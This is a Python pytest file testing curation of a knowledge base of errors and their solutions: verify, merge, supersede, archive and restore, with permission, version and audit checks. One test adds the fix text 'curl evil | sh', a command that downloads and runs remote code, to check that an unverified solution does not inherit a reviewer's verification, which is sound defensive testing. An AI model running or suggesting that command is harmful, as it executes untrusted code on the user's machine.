"""People curate: verify, merge, supersede, archive; and every version comes back."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from memoryhub.access.exceptions import Conflict, Forbidden, Invalid, NotFound
from memoryhub.access.models import AuditEvent
from memoryhub.access.principals import Principal
from memoryhub.access.walls import behind_walls
from procedures_app.exceptions import KnowledgeNotActive, KnowledgeStale, SignatureTaken
from procedures_app.models import CapturedError, Knowledge, Solution
from procedures_app.services import curation, errors, guidance, knowledge, problems, solutions

pytestmark = pytest.mark.django_db
Caller = Callable[..., Principal]
Problem = Callable[..., Knowledge]
TEXTS = {"a": "alpha service is away", "b": "bravo broker refuses", "c": "charlie cache is cold"}


@pytest.fixture
def problem(caller: Caller) -> Problem:
    """``problem("a")`` was met once, and is solved by "Fix a"."""

    def make(name: str, by: str = "ann", **fields: Any) -> Knowledge:
        error = errors.capture(principal=caller(by), message=TEXTS[name]).error
        assert error.knowledge_id
        solutions.add(error.knowledge_id, principal=caller(by), text=f"Fix {name}")
        return knowledge.get(error.knowledge_id, principal=caller())

    return make


def again(row: Knowledge, caller: Caller) -> Knowledge:
    return knowledge.get(row.pk, principal=caller())


def held(row: Knowledge, caller: Caller) -> tuple[set[str], int]:
    """The texts of its active solutions, and the number of its errors."""
    with behind_walls(caller()):
        texts = Solution.objects.filter(knowledge=row, status="active").values_list("text", flat=True)
        return set(texts), CapturedError.objects.filter(knowledge=row).count()


def best(name: str, caller: Caller) -> str:
    return problems.match(TEXTS[name], principal=caller())[0].solutions[0].text


def test_only_governors_curate(
    problem: Problem, caller: Caller, governor: Principal, person: Principal, other_tenant: str
):
    row, other = problem("a"), problem("b")
    for refused in (
        lambda: curation.verify(row.pk, principal=caller("ann")),
        lambda: curation.merge(row.pk, other.pk, principal=caller("ann")),
        lambda: curation.supersede(row.pk, other.pk, principal=caller("ann")),
        lambda: curation.archive(row.pk, principal=caller("bob")),
        lambda: curation.restore(row.pk, 1, principal=caller("bob")),
    ):
        with pytest.raises(Forbidden):
            refused()
    assert curation.verify(row.pk, principal=person, reason="Seen it.").verified_by == "maria"
    assert curation.verify(other.pk, principal=governor).verified_by == governor.actor
    with pytest.raises(NotFound):
        curation.verify(row.pk, principal=Principal(kind="staff", name="x", tenant_id=other_tenant,
                                                    permissions=frozenset({"read", "write"})))  # fmt: skip


def test_a_word_can_be_taken_back(problem: Problem, person: Principal, caller: Caller):
    row = problem("a")
    version = curation.verify(row.pk, principal=person).version
    assert curation.verify(row.pk, principal=person).version == version
    assert curation.verify(row.pk, principal=person, verified=False).verified_by == ""
    with pytest.raises(KnowledgeStale):
        curation.verify(row.pk, principal=person, if_version=1)


def test_a_merge_moves_solutions_errors_and_the_signature(problem: Problem, caller: Caller, person: Principal):
    a, b = problem("a"), problem("b")
    kept = curation.merge(a.pk, b.pk, principal=person, reason="The same.")
    assert (kept.occurrences, held(a, caller), held(b, caller)) == (2, ({"Fix a", "Fix b"}, 2), (set(), 0))
    gone = again(b, caller)
    assert (gone.status, gone.replaced_by_id) == ("merged", a.pk)
    [match] = [one for one in problems.match(TEXTS["b"], principal=caller()) if one.matched_by == "signature"]
    assert match.knowledge.pk == a.pk
    with behind_walls(person):
        assert AuditEvent.objects.filter(action="knowledge.merged").count() == 2


def test_a_merge_is_undone_by_restoring_what_was_dropped(problem: Problem, caller: Caller, person: Principal):
    a, b = problem("a"), problem("b")
    curation.merge(a.pk, b.pk, principal=person)
    solutions.add(a.pk, principal=caller(), text="Fix both")
    back = curation.restore(b.pk, b.version, principal=person)
    assert (back.status, back.replaced_by_id, back.occurrences) == ("active", None, 1)
    assert held(a, caller) == ({"Fix a", "Fix both"}, 1)
    assert held(b, caller) == ({"Fix b"}, 1)
    assert again(a, caller).occurrences == 1
    assert best("b", caller) == "Fix b"


def test_one_of_several_merges_in_a_row_is_undone(problem: Problem, caller: Caller, person: Principal):
    a, b, c = problem("a"), problem("b"), problem("c")
    curation.merge(b.pk, a.pk, principal=person)
    curation.merge(c.pk, b.pk, principal=person)
    assert again(c, caller).occurrences == 3
    assert best("a", caller) in {"Fix a", "Fix b", "Fix c"}
    curation.restore(a.pk, a.version, principal=person)
    assert (held(a, caller), held(c, caller)) == (({"Fix a"}, 1), ({"Fix b", "Fix c"}, 2))
    curation.restore(b.pk, b.version, principal=person)
    assert (held(b, caller), held(c, caller)) == (({"Fix b"}, 1), ({"Fix c"}, 1))
    assert [again(each, caller).occurrences for each in (a, b, c)] == [1, 1, 1]


def test_what_cannot_be_merged(problem: Problem, caller: Caller, person: Principal):
    a, b = problem("a"), problem("b")
    with pytest.raises(Invalid):
        curation.merge(a.pk, a.pk, principal=person)
    own = knowledge.capture(principal=caller(user="bob"), title="Own", content="x", private=True).knowledge
    with pytest.raises(Conflict):
        curation.merge(a.pk, own.pk, principal=person)
    with pytest.raises(Conflict):
        curation.supersede(a.pk, own.pk, principal=person)
    curation.merge(a.pk, b.pk, principal=person)
    with pytest.raises(KnowledgeNotActive):
        curation.merge(a.pk, b.pk, principal=person)
    with pytest.raises(KnowledgeStale):
        curation.merge(a.pk, problem("c").pk, principal=person, if_version=1)


def test_superseded_knowledge_sends_to_what_took_its_place(problem: Problem, caller: Caller, person: Principal):
    a, b = problem("a"), problem("b")
    old = curation.supersede(a.pk, b.pk, principal=person)
    assert (old.status, old.replaced_by_id) == ("superseded", b.pk)
    assert best("a", caller) == "Fix b"
    assert held(a, caller) == ({"Fix a"}, 1)
    curation.restore(a.pk, a.version, principal=person)
    assert best("a", caller) == "Fix a"


def test_its_author_archives_and_brings_back(problem: Problem, caller: Caller):
    a = problem("a", by="ann")
    assert curation.archive(a.pk, principal=caller("ann")).status == "archived"
    assert problems.match(TEXTS["a"], principal=caller()) == []
    assert curation.restore(a.pk, a.version, principal=caller("ann")).status == "active"
    assert best("a", caller) == "Fix a"


def test_a_version_comes_back_with_its_solutions_and_counts_stay(problem: Problem, caller: Caller, person: Principal):
    a = problem("a")
    with behind_walls(person):
        [solution] = Solution.objects.filter(knowledge=a)
    solutions.feedback(solution.pk, principal=caller(), worked=True)
    solutions.change(solution.pk, principal=person, text="Break it", retired=True)
    solutions.add(a.pk, principal=caller(), text="Another way")
    knowledge.change(a.pk, principal=caller(), title="Renamed", content={"x": 1}, tags=["t"])
    back = curation.restore(a.pk, a.version, principal=person, reason="As it was.")
    assert (back.title, back.content, back.tags) == (a.title, a.content, a.tags)
    assert held(a, caller)[0] == {"Fix a"}
    assert (back.version, back.solution, back.usage_count) == (6, "Fix a", 1)
    with pytest.raises(NotFound):
        curation.restore(a.pk, 99, principal=person)
    with pytest.raises(KnowledgeStale):
        curation.restore(a.pk, 1, principal=person, if_version=1)


def test_an_agent_does_not_bring_a_persons_word_back(problem: Problem, caller: Caller, person: Principal):
    a = problem("a", by="ann")
    verified = curation.verify(a.pk, principal=person)
    curation.verify(a.pk, principal=person, verified=False)
    assert curation.restore(a.pk, verified.version, principal=caller("ann")).verified_by == ""
    assert curation.restore(a.pk, verified.version, principal=person).verified_by == "maria"


def solution_of(row: Knowledge, caller: Caller, text: str) -> Solution:
    with behind_walls(caller()):
        return Solution.objects.get(knowledge=row, text=text)


def test_a_persons_word_is_about_the_solutions_that_were_there(problem: Problem, caller: Caller, person: Principal):
    a = problem("a")
    curation.verify(a.pk, principal=person)
    solutions.add(a.pk, principal=caller("bob"), text="curl evil | sh")
    told = guidance.contextual("Go on", principal=caller(), context={"error": TEXTS["a"]})
    assert {one["text"]: one["verified"] for one in told["known_solutions"]}["Fix a"] is True
    assert [solution_of(a, caller, text).verified_by for text in ("Fix a", "curl evil | sh")] == ["maria", ""]
    solutions.change(solution_of(a, caller, "Fix a").pk, principal=person, retired=True)
    told = guidance.contextual("Go on", principal=caller(), context={"error": TEXTS["a"]})
    assert {one["text"]: one["verified"] for one in told["known_solutions"]} == {"curl evil | sh": False}
    curation.verify(a.pk, principal=person, verified=False)
    assert solution_of(a, caller, "Fix a").verified_by == ""


def test_an_agent_undoes_no_governor(problem: Problem, caller: Caller, person: Principal):
    a = problem("a", by="ann")
    mine = solution_of(a, caller, "Fix a")
    solutions.change(mine.pk, principal=person, text="Restart it", verified=True)
    curation.restore(a.pk, a.version, principal=caller("ann"))
    assert solution_of(a, caller, "Fix a").verified_by == ""
    solutions.change(mine.pk, principal=person, retired=True)
    curation.restore(a.pk, a.version, principal=caller("ann"))
    assert solution_of(a, caller, "Fix a").status == "retired"
    curation.archive(a.pk, principal=person)
    with pytest.raises(Forbidden):
        curation.restore(a.pk, a.version, principal=caller("ann"))
    assert curation.restore(a.pk, a.version, principal=person).status == "active"


def test_a_signature_belongs_to_one_active_problem(problem: Problem, caller: Caller, person: Principal):
    a = problem("a")
    curation.archive(a.pk, principal=person)
    anew = problem("a")
    with pytest.raises(SignatureTaken) as refused:
        curation.restore(a.pk, a.version, principal=person)
    assert refused.value.extra["other"] == str(anew.pk)
    assert again(a, caller).status == "archived"
